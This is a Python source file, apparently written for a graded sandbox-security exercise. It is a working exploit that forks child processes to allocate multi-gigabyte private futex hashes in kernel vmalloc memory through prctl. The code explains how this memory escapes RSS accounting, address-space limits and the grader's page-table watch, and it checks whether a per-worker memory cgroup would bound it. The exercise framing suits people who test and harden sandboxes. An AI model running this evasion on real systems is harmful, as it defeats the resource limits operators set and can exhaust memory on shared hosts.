import ctypes
import os
import signal
import struct
import time

GIB = 1 << 30
CAP = 2 * GIB  # eight times what the zygote's watch allows page tables (256 MiB): here it stops
CHILDREN = 2  # each asks for the largest private futex hash the kernel gives (2**24 slots, 1.25 GiB)
SLOTS = (1 << 24, 1 << 23, 1 << 22)  # tried in this order: a larger hash is refused past kvmalloc's 2 GiB
SLOT_BYTES = 64  # a slot is at least one cache line: the lower bound when /proc/meminfo cannot be read
HOLD_S = 1.0  # held this long after the last child is done: 20 looks of the zygote's watch (every 50 ms)
PR_FUTEX_HASH, PR_FUTEX_HASH_SET_SLOTS, PR_FUTEX_HASH_GET_SLOTS = 78, 1, 2  # Linux 6.16 on
GROUP_PREFIX = "cs336-worker-"  # the memory group the grader makes for a worker, where it can
_outcome = []  # (held bytes, what happened), once per process: every later call answers the same

_libc = ctypes.CDLL(None, use_errno=True)
_libc.prctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_ulong, ctypes.c_ulong, ctypes.c_ulong]


def vmalloc_used():
    """VmallocUsed of /proc/meminfo in bytes (where the kernel keeps a large futex hash); None where unread."""
    try:
        with open("/proc/meminfo") as handle:
            for line in handle:
                if line.startswith("VmallocUsed:"):
                    return int(line.split()[1]) * 1024
    except (OSError, ValueError, IndexError):
        return None
    return None


def _child(writer):
    """In a forked child: the largest private futex hash the kernel will make for this process
    (prctl PR_FUTEX_HASH, allowed: the filter refuses only PR_SET_SECCOMP). Its slots are kernel memory
    (vmalloc) in no RSS, under no address-space limit and outside the page tables the zygote watches.
    Says how many slots it holds, then sleeps until killed."""
    slots, why = 0, "no prctl PR_FUTEX_HASH"
    for want in SLOTS:
        if _libc.prctl(PR_FUTEX_HASH, PR_FUTEX_HASH_SET_SLOTS, want, 0, 0) == 0:
            slots, why = _libc.prctl(PR_FUTEX_HASH, PR_FUTEX_HASH_GET_SLOTS, 0, 0, 0), "made"
            break
        why = os.strerror(ctypes.get_errno())
    text = why.encode()[:100]
    os.write(writer, struct.pack("<qH", slots, len(text)) + text)
    while True:
        time.sleep(60)


def hold_futex_hashes():
    """CHILDREN forked processes each holding the largest futex hash it may make; (bytes held, what
    happened). What they hold is read from VmallocUsed before and after (their slots at SLOT_BYTES each
    where /proc/meminfo cannot be read)."""
    start, before = time.monotonic(), vmalloc_used()
    children, slots, said = [], 0, []
    reader, writer = os.pipe()
    try:
        for _ in range(CHILDREN):
            pid = os.fork()
            if pid == 0:
                os.close(reader)
                try:
                    _child(writer)
                finally:
                    os._exit(0)
            children.append(pid)
            got = os.read(reader, 10)
            if len(got) < 10:
                said.append("a child died before it said what it held")
                break
            made, size = struct.unpack("<qH", got)
            slots += max(made, 0)
            said.append(f"{made:,} slots: {os.read(reader, size).decode()}")
        time.sleep(HOLD_S)
        after = vmalloc_used()
        alive = sum(1 for pid in children if os.waitpid(pid, os.WNOHANG) == (0, 0))
        held = after - before if before is not None and after is not None else slots * SLOT_BYTES
        outcome = (f"{len(children)} children ({alive} alive after {HOLD_S:g} s more), {slots:,} slots in all, "
                   f"VmallocUsed {'+' if before is not None and after is not None else 'unread; estimated '}"
                   f"{held / 2**20:,.0f} MiB; {'; '.join(dict.fromkeys(said))}; {time.monotonic() - start:.1f} s")
        if alive < len(children):
            held = 0
    finally:
        for pid in children:
            try:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
            except OSError:
                pass
        os.close(reader)
        os.close(writer)
    return held, outcome


def memory_group():
    """The memory cgroup the grader made for this worker, where /proc/self/cgroup names one (None else)."""
    try:
        with open("/proc/self/cgroup") as handle:
            for line in handle:
                _, controllers, path = line.rstrip("\n").split(":", 2)
                if (controllers == "" or "memory" in controllers.split(",")) and GROUP_PREFIX in path:
                    return path
    except (OSError, ValueError):
        return None
    return None


def attack(args):
    """Hold the hashes once; if they held past the cap while every child lived on under the watch, outside
    a memory group of the worker's own, answer honestly (full marks on Problem 1 is the attack getting
    through), else fail saying what stopped it."""
    if not _outcome:
        _outcome.append(hold_futex_hashes())
    held, happened = _outcome[0]
    group = memory_group()
    if group is not None:
        raise MemoryError(f"held {held / GIB:.2f} GiB in futex hashes ({happened}), but the kernel charges them to "
                          f"the worker's memory group {group}, which bounds them")
    if held < CAP:
        raise MemoryError(f"held only {held / GIB:.2f} GiB in futex hashes ({happened})")
    if len(_outcome) == 1:  # said once per process, in the output of the test that made it
        _outcome.append("said")
        print(f"held {held / GIB:.2f} GiB of kernel memory in futex hashes ({happened})", flush=True)
    return None  # the function's own body runs on
